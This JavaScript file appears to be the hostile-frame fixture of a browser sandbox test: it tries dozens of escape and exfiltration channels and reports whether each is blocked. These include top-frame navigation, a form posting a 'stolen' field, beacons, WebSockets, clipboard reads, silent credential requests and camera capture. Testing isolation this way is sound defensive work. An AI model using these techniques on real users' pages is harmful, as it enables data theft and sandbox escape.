/* Replaces the frame's own script: a document that turned hostile, under the same policy. It receives the name of one
   attempt, because an attempt that leads somewhere ends the document that made it. */
const attempts = {
  "NAV-01 location.href": ({ to }) => void (location.href = to),
  "NAV-01 location.replace": ({ to }) => location.replace(to),
  "NAV-01 location.assign": ({ to }) => location.assign(to),
  "NAV-01 a script's document.open": ({ to }) => {
    document.open();
    document.write(`<script>location.href = ${JSON.stringify(to)}</` + `script><img src="${to}">`);
    document.close();
  },
  "NAV-02 navigation.navigate": ({ to }) => void navigation.navigate(to).finished.catch(() => undefined),
  "NAV-03 a refresh": ({ to }) => add("meta", { httpEquiv: "refresh", content: `0;url=${to}` }),
  "NAV-04 a link": ({ to }) => add("a", { href: to }).click(),
  "NAV-04 a download": ({ to }) => add("a", { href: to, download: "x" }).click(),
  "NAV-04 a download of its own": () =>
    add("a", { href: URL.createObjectURL(new Blob(["x"])), download: "x" }).click(),
  "NAV-04 a ping": ({ to }) => add("a", { href: "#", ping: to }).click(),
  "NAV-04 a link to the top": ({ to }) => add("a", { href: to, target: "_top" }).click(),
  "NAV-04 a link to the parent": ({ to }) => add("a", { href: to, target: "_parent" }).click(),
  "NAV-04 a link to a new window": ({ to }) => add("a", { href: to, target: "_blank" }).click(),
  "NAV-05 a form": ({ to }) => add("form", { action: to }).submit(),
  "NAV-05 a form with a body": ({ to }) => {
    const form = add("form", { action: to, method: "post" });
    form.append(Object.assign(document.createElement("input"), { name: "stolen", value: "secret" }));
    form.requestSubmit();
  },
  "NAV-05 a form to the top": ({ to }) => add("form", { action: to, target: "_top" }).submit(),
  "NAV-06 our own redirector": ({ redirect }) => void (location.href = redirect),
  "NAV-07 a blob: document": ({ to }) =>
    void (location.href = page(`<img src="${to}"><script>location.href = "${to}"</` + `script>`)),
  "NAV-07 a data: document": ({ to }) => void (location.href = `data:text/html,<img src="${to}">`),
  "NAV-07 a javascript: address": ({ to }) => void (location.href = `javascript:fetch("${to}")`),
  "NAV-08 the sandbox's page again": ({ own }) => void (location.href = own),
  "NAV-09 a popup": ({ to }) => refusedIfNull(window.open(to)),
  "NAV-09 the top's location": ({ to }) => void (top.location.href = to),
  "NAV-09 the top's location, replaced": ({ to }) => top.location.replace(to),
  "NAV-09 the parent's location": ({ to }) => void (parent.location.href = to),
  "NAV-09 the top's hash": () => void (top.location.hash = "stolen"),
  "NAV-09 the page's document": () => top.document.title,
  "NAV-09 the guard's document": () => parent.document.title,
  "NAV-10 a child frame": ({ to }) => add("iframe", { src: to }),
  "NAV-10 a child frame with srcdoc": ({ to }) =>
    add("iframe", { srcdoc: `<img src="${to}"><script>fetch("${to}")</` + `script>` }),
  "NAV-10 a child frame with data:": ({ to }) => add("iframe", { src: `data:text/html,<img src="${to}">` }),
  "NAV-10 a child frame with blob:": ({ to }) => add("iframe", { src: page(`<img src="${to}">`) }),
  "NAV-10 an object": ({ to }) => add("object", { data: to }),
  "NAV-10 an embed": ({ to }) => add("embed", { src: to }),
  "NAV-10 a portal of markup": ({ to }) => {
    document.body.innerHTML =
      `<img src="${to}"><video poster="${to}"></video><svg><image href="${to}"/></svg><style>body{background:url(${to})}</style><link rel=stylesheet href="${to}"><script src="${to}.js"></` +
      `script>`;
  },
  "NAV-10 fetch, image, beacon and socket": ({ to, socket }) => {
    all(
      () => fetch(to, { mode: "no-cors" }),
      () => (new Image().src = to),
      () => navigator.sendBeacon(to),
      () => new WebSocket(socket),
      () => new EventSource(to),
      () => import(`${to}.js`),
      () => new Worker(`${to}.js`),
      () => new Audio(to).load(),
    );
  },
  "NAV-10 worklets, an auction, a fenced frame and a transform": ({ to }) => {
    const { origin } = new URL(to);
    const transform = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
      <xsl:import href="${to}?transform"/>
      <xsl:template match="/"><xsl:copy-of select="document('${to}?document')"/></xsl:template></xsl:stylesheet>`;
    all(
      () => new AudioContext().audioWorklet.addModule(`${to}?audioWorklet`),
      () => CSS.paintWorklet.addModule(`${to}?paintWorklet`),
      () => navigator.runAdAuction({ seller: origin, decisionLogicURL: `${to}?auction` }),
      () => navigator.joinAdInterestGroup({ owner: origin, name: "x", updateURL: `${to}?group` }, 9),
      () => (add("fencedframe", {}).config = new FencedFrameConfig(`${to}?fenced`)),
      () => {
        const parse = (text) => new DOMParser().parseFromString(text, "text/xml");
        const processor = new XSLTProcessor();
        processor.importStylesheet(parse(transform));
        processor.transformToFragment(parse("<x/>"), document);
      },
      () => fetchLater(`${to}?later`, { activateAfter: 0 }),
    );
  },
  "NAV-11 preconnect": ({ tcp }) => {
    add("link", { rel: "preconnect", href: `http://127.0.0.1:${tcp}/` });
    add("link", { rel: "preconnect", href: `http://127.0.0.1:${tcp}/`, crossOrigin: "anonymous" });
  },
  "NAV-12 dns-prefetch": ({ name }) => {
    add("link", { rel: "dns-prefetch", href: `http://${name}/` });
    add("a", { href: `http://link-${name}/`, textContent: "x" });
  },
  "NAV-13 RTCPeerConnection": async ({ tcp, udp }) => {
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udp}` },
        { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: "u", credential: "p" },
      ],
    });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
    throw new Error("unseen");
  },
  "NAV-14 prefetch and preload": ({ to }) => {
    for (const rel of ["prefetch", "preload", "modulepreload", "manifest", "icon", "prerender", "stylesheet"])
      add("link", { rel, href: `${to}?${rel}`, as: "script" });
  },
  "NAV-14 speculation rules": ({ to }) =>
    add("script", {
      type: "speculationrules",
      textContent: JSON.stringify({
        prefetch: [{ source: "list", urls: [to], eagerness: "immediate" }],
        prerender: [{ source: "list", urls: [to], eagerness: "immediate" }],
      }),
    }),
  "NAV-17 a name in an address": ({ away }) => void (location.href = away),
  "NAV-16 alert": () => timed(() => alert("x")),
  "NAV-16 confirm": () => timed(() => confirm("x")),
  "NAV-16 prompt": () => timed(() => prompt("x")),
  "NAV-16 print": () => timed(() => print()),
  "NAV-16 fullscreen": () => document.documentElement.requestFullscreen(),
  "NAV-16 pointer lock": () => document.documentElement.requestPointerLock() ?? refuse(),
  "NAV-16 reading the clipboard": () => navigator.clipboard.readText(),
  "NAV-16 writing the clipboard": () => navigator.clipboard.writeText("stolen"),
  "NAV-16 writing the clipboard by command": () => document.execCommand("copy") || refuse(),
  "NAV-16 storage access": () => document.requestStorageAccess(),
  "NAV-16 a credential": () => navigator.credentials.get({ password: true, mediation: "silent" }).then(some),
  "NAV-16 a public key": () =>
    navigator.credentials
      .get({ publicKey: { challenge: new Uint8Array(16), userVerification: "discouraged" } })
      .then(some),
  "NAV-16 a federated identity": ({ to }) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: "x" }] } }).then(some),
  "NAV-16 payment": ({ to }) =>
    new PaymentRequest([{ supportedMethods: to }], {
      total: { label: "x", amount: { currency: "EUR", value: "1" } },
    }).show(),
  "NAV-16 notifications": async () => (await Notification.requestPermission()) === "granted" || refuse(),
  "NAV-16 a file": () => showOpenFilePicker(),
  "NAV-16 the screen": () => navigator.mediaDevices.getDisplayMedia(),
  "NAV-16 the camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
  "NAV-16 sharing": ({ to }) => navigator.share({ url: to }),
  "NAV-16 a second screen, a window on top, a handler of addresses, an eye dropper and a model": ({ to }) =>
    any(
      () => new PresentationRequest(to).start(),
      () => documentPictureInPicture.requestWindow(),
      () => navigator.registerProtocolHandler("web+x", `${to}?%s`),
      () => new EyeDropper().open(),
      () => LanguageModel.create(),
    ),
};

const add = (tag, properties) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(properties)) {
    if (name in element && name !== "ping") element[name] = value;
    else element.setAttribute(name, value);
  }
  (tag === "link" || tag === "meta" ? document.head : document.body).append(element);
  return element;
};
const page = (html) => URL.createObjectURL(new Blob([html], { type: "text/html" }));
const refuse = () => {
  throw new Error("refused");
};
const refusedIfNull = (value) => value ?? refuse();
/** Makes all of the attempts, even when some are refused or absent. */
const all = (...attempts) => {
  for (const attempt of attempts)
    try {
      attempt()?.catch?.(() => undefined);
    } catch {
      // refused, or absent
    }
};
/** Fails only when all of the attempts fail. */
const any = (...attempts) => Promise.any(attempts.map(async (attempt) => attempt()));
const some = (value) => value ?? refuse();
/** A dialog that is shown holds up the script; one that is blocked returns at once. */
const timed = (show) => {
  const start = performance.now();
  show();
  if (performance.now() - start < 100) refuse();
};

addEventListener("message", async ({ data }) => {
  if (data?.type !== "attack") return;
  const report = (outcome) => top.postMessage({ type: "attacked", attempt: data.attempt, outcome }, "*");
  addEventListener("securitypolicyviolation", (event) => report(`violated: ${event.effectiveDirective}`));
  try {
    await attempts[data.attempt](data.means);
    report("made");
  } catch (error) {
    report(
      error?.name === "ReferenceError" || error?.name === "TypeError" ? "absent" : `refused: ${error?.name}`,
    );
  }
});
top.postMessage({ type: "ready", attempts: Object.keys(attempts), origin: self.origin }, "*");
